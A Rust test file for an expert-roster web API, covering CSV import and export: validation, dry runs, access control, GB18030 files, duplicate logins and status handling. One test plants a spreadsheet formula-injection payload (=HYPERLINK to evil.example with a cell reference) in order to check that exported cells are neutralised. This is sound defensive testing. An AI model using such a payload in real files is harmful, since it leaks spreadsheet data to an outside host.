//! Importing the roster from CSV (all or nothing) and exporting it in the same columns.

use crate::common;

use actix_web::http::header;
use actix_web::test::TestRequest;
use common::TestApp;
use guanai::domain::roster::ExpertStatus;
use serde_json::json;

const SAMPLE: &str = include_str!("../../api_docs/experts_sample.csv");

fn csv_request(path: &str, token: &str, body: &str) -> TestRequest {
    TestRequest::post()
        .uri(path)
        .insert_header((header::AUTHORIZATION, format!("Bearer {token}")))
        .insert_header((header::CONTENT_TYPE, "text/csv"))
        .set_payload(body.to_owned())
}

fn expert_count(app: &TestApp) -> usize {
    app.with_conn(|conn| {
        guanai::models::expert::Expert::all_rows(conn)
            .unwrap()
            .len()
    })
}

#[actix_web::test]
async fn the_sample_file_imports_with_one_time_tokens() {
    let app = TestApp::new().await;
    let (_, admin) = app.admin().await;

    let response = app
        .call(csv_request("/api/v1/experts/import", &admin, SAMPLE))
        .await;

    let body = response.assert_status(201);
    assert_eq!(body["created"], 3);
    assert_eq!(body["experts"][2]["login"], "chen.yuzhen");
    assert_eq!(body["experts"][2]["line"], 4);
    let token = body["experts"][0]["set_password_token"].as_str().unwrap();
    app.post(
        "/api/v1/auth/set-password",
        None,
        json!({ "token": token, "new_password": "wang's own password" }),
    )
    .await;
    app.login("wang.xiulan", "wang's own password")
        .await
        .assert_status(200);

    let chen = app
        .get(
            &format!(
                "/api/v1/experts/{}",
                body["experts"][2]["expert_id"].as_str().unwrap()
            ),
            &admin,
        )
        .await;
    let chen = chen.assert_status(200);
    assert_eq!(chen["status"], "candidate");
    assert_eq!(chen["category"], "veteran_expert");
    assert_eq!(chen["primary_team"], "mental_health");
    assert_eq!(chen["modes"], json!(["online", "offline", "one_on_one"]));
    assert_eq!(chen["rest_weekdays"], json!([7]));
    assert_eq!(chen["specialties"], json!(["青春期心理", "情绪管理"]));
    assert_eq!(app.audit_actions("expert.imported").len(), 1);
    assert_eq!(app.audit_actions("expert.created").len(), 3);
}

#[actix_web::test]
async fn one_bad_row_imports_nothing_and_every_problem_is_listed() {
    let app = TestApp::new().await;
    let (_, admin) = app.admin().await;
    app.school_account("taken.login");
    let before = expert_count(&app);
    let file = "login,name,category,primary_team,birth_year\n\
                good.one,甲,老干部,reading,1950\n\
                taken.login,乙,老战士,ideology,1949\n\
                bad.one,丙,宇航员,天文,不详\n";

    let response = app
        .call(csv_request("/api/v1/experts/import", &admin, file))
        .await;

    response.assert_problem(422, "validation_failed");
    let fields: Vec<&str> = response.body["errors"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["field"].as_str().unwrap())
        .collect();
    assert_eq!(
        fields,
        [
            "rows[4].category",
            "rows[4].primary_team",
            "rows[4].birth_year"
        ]
    );
    assert_eq!(expert_count(&app), before);

    // With the bad row fixed, the login of a school account is still refused (it is not an
    // expert to update), and still nothing is written.
    let file = file.replace(
        "bad.one,丙,宇航员,天文,不详",
        "bad.one,丙,老专家,reading,1950",
    );
    let response = app
        .call(csv_request("/api/v1/experts/import", &admin, &file))
        .await;
    response.assert_problem(422, "validation_failed");
    assert_eq!(response.body["errors"][0]["field"], "rows[3].login");
    assert_eq!(response.body["errors"][0]["code"], "taken");
    assert_eq!(expert_count(&app), before);
}

#[actix_web::test]
async fn a_dry_run_checks_and_writes_nothing() {
    let app = TestApp::new().await;
    let (_, admin) = app.admin().await;

    let response = app
        .call(csv_request(
            "/api/v1/experts/import?dry_run=true",
            &admin,
            SAMPLE,
        ))
        .await;

    let body = response.assert_status(200);
    assert_eq!(body["dry_run"], true);
    assert_eq!(body["created"], 3);
    assert!(body["experts"][0]["set_password_token"].is_null());
    assert_eq!(expert_count(&app), 0);
}

#[actix_web::test]
async fn only_admins_import_and_only_csv_is_taken() {
    let app = TestApp::new().await;
    let (_, admin) = app.admin().await;
    app.expert("plain", "reading", ExpertStatus::Active);
    let (expert, _) = app.tokens("plain").await;

    app.call(csv_request("/api/v1/experts/import", &expert, SAMPLE))
        .await
        .assert_problem(403, "forbidden");
    let json_body = TestRequest::post()
        .uri("/api/v1/experts/import")
        .insert_header((header::AUTHORIZATION, format!("Bearer {admin}")))
        .set_json(json!({ "rows": [] }));
    app.call(json_body)
        .await
        .assert_problem(415, "unsupported_media_type");
    let huge = "x".repeat(5 * 1024 * 1024 + 1);
    app.call(csv_request("/api/v1/experts/import", &admin, &huge))
        .await
        .assert_problem(413, "payload_too_large");
    app.call(csv_request(
        "/api/v1/experts/import",
        &admin,
        "login,name\n",
    ))
    .await
    .assert_problem(422, "validation_failed");
}

#[actix_web::test]
async fn the_export_has_the_import_columns_and_reimports_cleanly() {
    let app = TestApp::new().await;
    let (_, admin) = app.admin().await;
    app.call(csv_request("/api/v1/experts/import", &admin, SAMPLE))
        .await
        .assert_status(201);

    let export = app.get("/api/v1/experts/export.csv", &admin).await;

    assert_eq!(export.status.as_u16(), 200);
    assert!(
        export
            .header("content-type")
            .unwrap()
            .starts_with("text/csv")
    );
    let raw = export.body.as_str().unwrap().to_owned();
    let text = raw
        .strip_prefix('\u{feff}')
        .expect("the export starts with a BOM, so Excel reads it as UTF-8")
        .to_owned();
    assert_eq!(
        text.lines().next(),
        SAMPLE.lines().next(),
        "export and sample share the header"
    );
    assert_eq!(text.lines().count(), 4);
    assert!(text.contains("chen.yuzhen,陈玉珍,female,1955,veteran_expert"));

    // The export re-imports into an empty roster as the same experts.
    let fresh = TestApp::new().await;
    let (_, fresh_admin) = fresh.admin().await;
    let reimport = fresh
        .call(csv_request("/api/v1/experts/import", &fresh_admin, &text))
        .await;
    assert_eq!(reimport.assert_status(201)["created"], 3);
    let again = fresh.get("/api/v1/experts/export.csv", &fresh_admin).await;
    assert_eq!(again.body.as_str().unwrap(), raw);

    let (_, _) = app.school_account("school.a");
    let (school, _) = app.tokens("school.a").await;
    app.get("/api/v1/experts/export.csv", &school)
        .await
        .assert_problem(403, "forbidden");
}

#[actix_web::test]
async fn exported_cells_never_run_as_formulas_and_come_back_as_they_were() {
    let app = TestApp::new().await;
    let (_, admin) = app.admin().await;
    let evil = r#"=HYPERLINK("http://evil.example/?x="&A1,"点击")"#;
    let lin = app.expert("lin.evil", "reading", ExpertStatus::Active);
    let (as_lin, _) = app.tokens("lin.evil").await;
    app.patch(
        &format!("/api/v1/experts/{}", lin.id),
        &as_lin,
        None,
        json!({ "bio": evil, "phone": "+8613800000000", "specialties": ["-亲子沟通", "@阅读"] }),
    )
    .await
    .assert_status(200);

    let export = app.get("/api/v1/experts/export.csv", &admin).await;
    let raw = export.body.as_str().unwrap().to_owned();
    let text = raw.strip_prefix('\u{feff}').unwrap();
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    for record in reader.records() {
        for cell in record.unwrap().iter() {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a live formula in the export: {cell:?}"
            );
        }
    }
    assert!(text.contains("'+8613800000000"));

    // Re-imported elsewhere, the cells are what they were.
    let fresh = TestApp::new().await;
    let (_, fresh_admin) = fresh.admin().await;
    fresh
        .call(csv_request("/api/v1/experts/import", &fresh_admin, &raw))
        .await
        .assert_status(201);
    let experts = fresh.get("/api/v1/experts?q=hyperlink", &fresh_admin).await;
    let expert = &experts.assert_status(200)["items"][0];
    assert_eq!(expert["bio"], evil);
    assert_eq!(expert["phone"], "+8613800000000");
    assert_eq!(expert["specialties"], json!(["-亲子沟通", "@阅读"]));
}

#[actix_web::test]
async fn a_file_saved_by_excel_on_chinese_windows_imports() {
    let app = TestApp::new().await;
    let (_, admin) = app.admin().await;
    let (gbk, _, unmappable) = encoding_rs::GB18030.encode(SAMPLE);
    assert!(!unmappable);

    let response = app
        .call(
            TestRequest::post()
                .uri("/api/v1/experts/import")
                .insert_header((header::AUTHORIZATION, format!("Bearer {admin}")))
                .insert_header((header::CONTENT_TYPE, "text/csv"))
                .set_payload(gbk.into_owned()),
        )
        .await;

    assert_eq!(response.assert_status(201)["created"], 3);
    let names: Vec<String> = app.with_conn(|conn| {
        guanai::models::expert::Expert::all_rows(conn)
            .unwrap()
            .into_iter()
            .map(|(e, _, _)| e.name)
            .collect()
    });
    assert!(names.contains(&"陈玉珍".to_owned()), "{names:?}");

    let garbage = app
        .call(
            TestRequest::post()
                .uri("/api/v1/experts/import")
                .insert_header((header::AUTHORIZATION, format!("Bearer {admin}")))
                .insert_header((header::CONTENT_TYPE, "text/csv"))
                .set_payload(vec![0xff, 0xfe, 0xfd, 0x80, 0x81]),
        )
        .await;
    garbage.assert_problem(422, "validation_failed");
    assert_eq!(garbage.body["errors"][0]["code"], "invalid_encoding");
}

/// The office's full view of the expert with `login`.
async fn expert_by_login(app: &TestApp, admin: &str, login: &str) -> serde_json::Value {
    let list = app.get("/api/v1/experts?limit=100", admin).await;
    list.assert_status(200)["items"]
        .as_array()
        .unwrap()
        .iter()
        .find(|e| e["login"] == login)
        .cloned()
        .unwrap_or_else(|| panic!("no expert {login}"))
}

/// `SAMPLE` as an import creates it, then exported: (app, admin token, the export's text).
async fn imported_and_exported() -> (TestApp, String, String) {
    let app = TestApp::new().await;
    let (_, admin) = app.admin().await;
    app.call(csv_request("/api/v1/experts/import", &admin, SAMPLE))
        .await
        .assert_status(201);
    let export = app.get("/api/v1/experts/export.csv", &admin).await;
    let text = export.body.as_str().unwrap().to_owned();
    (app, admin, text)
}

#[actix_web::test]
async fn reimporting_the_export_changes_nothing_and_an_edited_row_updates_its_expert() {
    let (app, admin, export) = imported_and_exported().await;

    let again = app
        .call(csv_request("/api/v1/experts/import", &admin, &export))
        .await;
    let body = again.assert_status(200);
    assert_eq!(
        (&body["created"], &body["updated"], &body["unchanged"]),
        (&json!(0), &json!(0), &json!(3))
    );
    let versions_before = expert_by_login(&app, &admin, "chen.yuzhen").await["version"].clone();

    // The office edits two cells in Excel and re-imports the whole file.
    let edited = export
        .replace(
            "国家二级心理咨询师。",
            "国家二级心理咨询师，擅长青春期辅导。",
        )
        .replace(",13800000002,", ",13900000002,");
    let dry = app
        .call(csv_request(
            "/api/v1/experts/import?dry_run=true",
            &admin,
            &edited,
        ))
        .await;
    let body = dry.assert_status(200);
    assert_eq!(
        (&body["updated"], &body["unchanged"]),
        (&json!(2), &json!(1))
    );
    assert_eq!(
        expert_by_login(&app, &admin, "chen.yuzhen").await["version"],
        versions_before,
        "a dry run writes nothing"
    );

    let applied = app
        .call(csv_request("/api/v1/experts/import", &admin, &edited))
        .await;
    let body = applied.assert_status(200);
    assert_eq!((&body["created"], &body["updated"]), (&json!(0), &json!(2)));
    let outcomes: Vec<&str> = body["experts"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["outcome"].as_str().unwrap())
        .collect();
    assert_eq!(outcomes, ["unchanged", "updated", "updated"]);
    assert!(body["experts"][1]["set_password_token"].is_null());
    let chen = &expert_by_login(&app, &admin, "chen.yuzhen").await;
    assert_eq!(chen["bio"], "国家二级心理咨询师，擅长青春期辅导。");
    let zhao = &expert_by_login(&app, &admin, "zhao.deming").await;
    assert_eq!(zhao["phone"], "13900000002");
    assert_eq!(expert_count(&app), 3);
}

#[actix_web::test]
async fn the_import_never_moves_membership_status() {
    let (app, admin, export) = imported_and_exported().await;
    // 陈玉珍 is a candidate; the file says she has left.
    let edited = export.replace(
        ",chen.yuzhen@example.cn,candidate",
        ",chen.yuzhen@example.cn,exited",
    );
    let response = app
        .call(csv_request("/api/v1/experts/import", &admin, &edited))
        .await;
    let body = response.assert_status(200);
    let chen = body["experts"]
        .as_array()
        .unwrap()
        .iter()
        .find(|e| e["login"] == "chen.yuzhen")
        .unwrap()
        .clone();
    assert_eq!(chen["status_ignored"], true);
    assert_eq!(chen["outcome"], "unchanged");
    let id = chen["expert_id"].as_str().unwrap();
    let expert = app.get(&format!("/api/v1/experts/{id}"), &admin).await;
    assert_eq!(expert.body["status"], "candidate");
    let history = app
        .get(&format!("/api/v1/experts/{id}/history"), &admin)
        .await;
    assert_eq!(
        history.body["items"].as_array().unwrap().len(),
        1,
        "only the entry"
    );
}

#[actix_web::test]
async fn a_new_login_for_someone_already_on_the_roster_needs_confirmation() {
    let (app, admin, _) = imported_and_exported().await;
    let before = expert_count(&app);
    // Same name and birth year as chen.yuzhen; same name and phone as wang.xiulan.
    let file = "login,name,category,primary_team,birth_year,phone\n\
                chen.yz2,陈玉珍,老专家,mental_health,1955,\n\
                wang.xl2,王秀兰,老教师,family_education,,13800000001\n\
                other.chen,陈玉珍,老专家,mental_health,1960,13700000000\n";

    let refused = app
        .call(csv_request("/api/v1/experts/import", &admin, file))
        .await;
    refused.assert_problem(422, "validation_failed");
    let errors = refused.body["errors"].as_array().unwrap().clone();
    assert_eq!(errors.len(), 2, "{errors:?}");
    assert_eq!(errors[0]["field"], "rows[2].login");
    assert_eq!(errors[0]["code"], "possible_duplicate");
    let message = errors[0]["message"].as_str().unwrap();
    assert!(
        message.contains("chen.yz2") && message.contains("chen.yuzhen"),
        "{message}"
    );
    assert_eq!(errors[1]["field"], "rows[3].login");
    assert!(
        errors[1]["message"]
            .as_str()
            .unwrap()
            .contains("wang.xiulan")
    );
    assert_eq!(expert_count(&app), before);

    let confirmed = app
        .call(csv_request(
            "/api/v1/experts/import?confirm_duplicates=true",
            &admin,
            file,
        ))
        .await;
    assert_eq!(confirmed.assert_status(201)["created"], 3);
    assert_eq!(expert_count(&app), before + 3);
}
